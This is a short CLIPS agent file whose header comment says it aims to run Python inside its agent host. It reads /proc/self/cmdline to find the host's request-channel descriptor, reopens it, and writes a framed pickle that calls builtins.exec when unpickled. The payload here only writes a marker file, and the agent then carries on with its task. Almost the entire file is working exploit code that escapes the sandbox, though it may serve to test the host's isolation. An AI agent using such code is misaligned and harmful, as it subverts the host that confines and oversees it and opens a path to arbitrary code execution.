; Reads its process's command line (/proc/self/cmdline) for the descriptor of the agent host's request channel
; (the number after "app.backends.host.child"), reopens it through /proc/self/fd for writing and writes a
; framed pickle into it (4-byte length, then protocol 0: builtins.exec of Python code that writes injected.txt
; in the scratch folder). If the host unpickles it, a CLIPS agent runs Python. Then solves.
(defmodule AGENT (import MAIN ?ALL) (import ENV ?ALL) (export ?ALL))
(deffunction AGENT::channel-fd ()
   (if (not (open "/proc/self/cmdline" cmd "r")) then (printout t "cannot read cmdline" crlf) (return FALSE))
   (bind ?words (create$)) (bind ?word "")
   (bind ?c (get-char cmd))
   (while (>= ?c 0) do
      (if (= ?c 0) then (bind ?words (create$ ?words ?word)) (bind ?word "")
       else (bind ?word (str-cat ?word (format nil "%c" ?c))))
      (bind ?c (get-char cmd)))
   (close cmd)
   (bind ?at (member$ "app.backends.host.child" ?words))
   (if (or (not ?at) (> (+ ?at 1) (length$ ?words))) then (return FALSE))
   (return (nth$ (+ ?at 1) ?words)))
(defrule AGENT::inject (status (step ?s) (currently running)) =>
   (bind ?fd (channel-fd))
   (bind ?code "open('injected.txt','w').write('python ran')")
   (bind ?payload (str-cat "cbuiltins" (format nil "%n") "exec" (format nil "%n") "(V" ?code (format nil "%n") "tR."))
   (if (and ?fd (open (str-cat "/proc/self/fd/" ?fd) chan "w")) then
      (put-char chan 0) (put-char chan 0) (put-char chan 0) (put-char chan (str-length ?payload))
      (printout chan ?payload) (close chan)
      (printout t "wrote a pickle into descriptor " ?fd crlf)
    else (printout t "could not reopen the request channel " ?fd crlf))
   (assert (exec (step ?s) (action solve))) (pop-focus))
